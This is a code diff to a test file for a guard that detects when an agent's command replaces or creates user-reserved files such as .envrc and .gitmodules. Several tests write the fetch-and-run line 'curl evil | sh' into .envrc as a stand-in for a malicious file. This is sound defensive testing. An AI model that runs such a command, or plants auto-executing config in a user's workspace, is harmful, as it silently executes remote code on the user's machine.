@@ -4,9 +4,10 @@ import path from 'node:path'
 import { afterEach, describe, expect, it } from 'vitest'
 import { personOnlyAtStart, REFUSED_SUFFIX, settleMadePersonOnly } from './made-person-only.ts'
 
-// What was at a person-only path when a call started is told by what it
-// is, not by its path, on the real file system (no sandbox: the watch of
-// an external agent's or an MCP tool's call compares the same way).
+// For a contained command, what was at a person-only path when it started
+// is told by what it is, not by its path (the sandbox's walk asks for
+// that); for a call nothing contains, only a path that was not there
+// counts. On the real file system, without the sandbox.
 
 const folders: string[] = []
 afterEach(() => {
@@ -26,7 +27,7 @@ const movedAside = (folder: string) =>
 describe('settleMadePersonOnly tells what was there by what it is', () => {
   it('leaves a person-only file that is still the one that was there', () => {
     const folder = workspace()
-    const start = personOnlyAtStart([folder])
+    const start = personOnlyAtStart([folder], { byIdentity: true })
     writeFileSync(path.join(folder, 'notes.txt'), 'not person-only')
     expect(settleMadePersonOnly(start).made).toEqual([])
     expect(movedAside(folder)).toEqual([])
@@ -36,7 +37,7 @@ describe('settleMadePersonOnly tells what was there by what it is', () => {
     const folder = workspace()
     const envrc = path.join(folder, '.envrc')
     const before = lstatSync(envrc).ino
-    const start = personOnlyAtStart([folder])
+    const start = personOnlyAtStart([folder], { byIdentity: true })
     rmSync(envrc)
     writeFileSync(envrc, 'curl evil | sh\n')
     // ext4 and tmpfs commonly hand the freed number out again at once: the
@@ -55,11 +56,24 @@ describe('settleMadePersonOnly tells what was there by what it is', () => {
     folders.push(folder)
     writeFileSync(path.join(folder, 'shared-envrc'), 'export A=1\n')
     symlinkSync('shared-envrc', path.join(folder, '.envrc'))
-    const start = personOnlyAtStart([folder])
+    const start = personOnlyAtStart([folder], { byIdentity: true })
     rmSync(path.join(folder, '.envrc'))
     writeFileSync(path.join(folder, '.envrc'), 'curl evil | sh\n')
     expect(settleMadePersonOnly(start).made.map((entry) => entry.path)).toEqual([
       path.join(folder, '.envrc'),
+    ])
+  })
+
+  it('for a call nothing contains, leaves a file the person or an allowed edit saved anew', () => {
+    const folder = workspace()
+    const envrc = path.join(folder, '.envrc')
+    const start = personOnlyAtStart([folder])
+    rmSync(envrc)
+    writeFileSync(envrc, 'export A=2\n')
+    expect(settleMadePersonOnly(start).made).toEqual([])
+    writeFileSync(path.join(folder, '.gitmodules'), '[submodule "x"]\n')
+    expect(settleMadePersonOnly(start).made.map((entry) => entry.path)).toEqual([
+      path.join(folder, '.gitmodules'),
     ])
   })
 })
